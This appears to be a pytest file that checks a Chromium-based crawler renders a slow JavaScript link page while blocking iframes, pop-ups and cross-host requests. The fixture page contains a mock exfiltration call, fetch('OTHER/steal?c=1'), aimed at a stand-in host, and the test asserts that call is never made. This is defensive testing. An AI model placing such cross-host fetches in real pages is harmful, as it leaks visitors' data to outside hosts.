"""Rendering with Chromium: every frame and pop-up passes the guard; slow JavaScript pages are waited for."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from selfaudit.crawler.runner import build_job

from selfaudit.browser import BrowserMissing, launch_options
from selfaudit.config import CrawlConfig, Settings
from selfaudit.handles import parse_handle
from selfaudit.store import Store
from tests.crawler.loopsite import Site, run_child, serve

_PAGE = """<!doctype html><html><head><meta charset=utf-8><title>links</title><link rel="me" href="/@me"></head><body>
<main id="app"><p>Loading</p></main>
<iframe src="OTHER/iframe"></iframe>
<script>
window.open('OTHER/popup');
fetch('OTHER/steal?c=1').catch(() => 0);
fetch('data.json').then(r => r.json()).then(data => {
  const app = document.getElementById('app'); app.innerHTML = '';
  for (const l of data.links) { const a = document.createElement('a'); a.href = l.url; a.textContent = l.title;
    app.appendChild(a); }
});
</script></body></html>"""


@pytest.fixture(autouse=True)
def _chromium() -> None:
    try:
        launch_options()
    except BrowserMissing as exc:  # the set-up installs it; say so rather than pass silently
        pytest.fail(str(exc))


def test_a_slow_javascript_link_page_is_read_and_other_hosts_are_never_reached(tmp_path: Path) -> None:
    site = Site(delays={"/links/data.json": 2.5})
    with serve(site):
        other = site.base.replace("127.0.0.1", "localhost")  # the same server under another host name
        page = _PAGE.replace("OTHER", other).encode()
        site.routes.update({
            "/links/": (200, {"Content-Type": "text/html; charset=utf-8"}, page),
            "/links/data.json": (200, {"Content-Type": "application/json"}, json.dumps(
                {"links": [{"title": "My campaign page", "url": "https://campaign.example/"}]}).encode()),
        })
        spec = parse_handle(f"mastodon:@me@{site.base}")
        settings = Settings(accounts=(spec,), data_dir=tmp_path, crawl=CrawlConfig(fast=True, javascript=True))
        with Store.open(settings.db_path) as store:
            store.add_links([{"platform": "mastodon", "account": spec.handle, "url": site.base + "/links/"}])
        job = build_job(settings, fast=True, full=False, run_id=0, accounts=settings.accounts)
        job["jobs"] = []
        run_child(job, tmp_path, timeout=180)
    assert "/links/data.json" in site.log  # it was rendered
    assert not [p for p in site.log if p.startswith(("/iframe", "/popup", "/steal"))], site.log
    with Store.open(settings.db_path) as store:
        [post] = [p for p in store.iter_posts() if p["url"] == site.base + "/links/"]
        links = {link["url"] for link in store.links()}
    assert "My campaign page" in post["text"]
    assert "https://campaign.example/" in links
